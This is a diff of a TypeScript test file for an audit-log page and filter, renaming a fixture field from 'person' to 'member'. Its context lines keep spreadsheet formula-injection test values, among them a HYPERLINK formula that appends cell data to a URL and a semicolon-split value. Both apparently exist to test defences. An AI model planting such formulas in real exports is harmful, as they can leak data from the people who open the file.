@@ -12,13 +12,13 @@ import { tx } from "#lib/database/transact.ts";
 import { withOwnDatabase } from "#test-support/database/own-database.ts";
 
 const ADA: Someone = {
-  person: { id: randomUUID(), name: "Ada", email: "ada@example.com" },
+  member: { id: randomUUID(), name: "Ada", email: "ada@example.com" },
   sessionId: randomUUID(),
   address: "192.0.2.7",
   userAgent: "Test/1",
   requestId: "req-12345",
 };
-const VISITOR = { ...ADA, person: null };
+const VISITOR = { ...ADA, member: null };
 const HOSTILE = '=HYPERLINK("https://example.com/"&A1)';
 /** With a semicolon as the list separator, a spreadsheet begins a new cell after it. */
 const HOSTILE_WITHIN = "late;=1+1";
@@ -66,7 +66,7 @@ describe("a page of the log", () => {
   });
 
   test.each([
-    [{ actor: `person:${ADA.person.id}` }, 350],
+    [{ actor: `person:${ADA.member.id}` }, 350],
     [{ actor: "visitor" }, 350],
     [{ actor: "system:sender" }, 350],
     [{ actor: "system:resolver" }, 0],
@@ -88,7 +88,7 @@ describe("a page of the log", () => {
 test("its filter offers who and what is in it", async () => {
   expect(await listChoices()).toEqual({
     actors: [
-      { value: `person:${ADA.person.id}`, name: "Ada", email: "ada@example.com" },
+      { value: `person:${ADA.member.id}`, name: "Ada", email: "ada@example.com" },
       { value: "system:sender", name: "Counterfoil (sender)", email: null },
       { value: "visitor", name: "Not signed in", email: null },
     ],
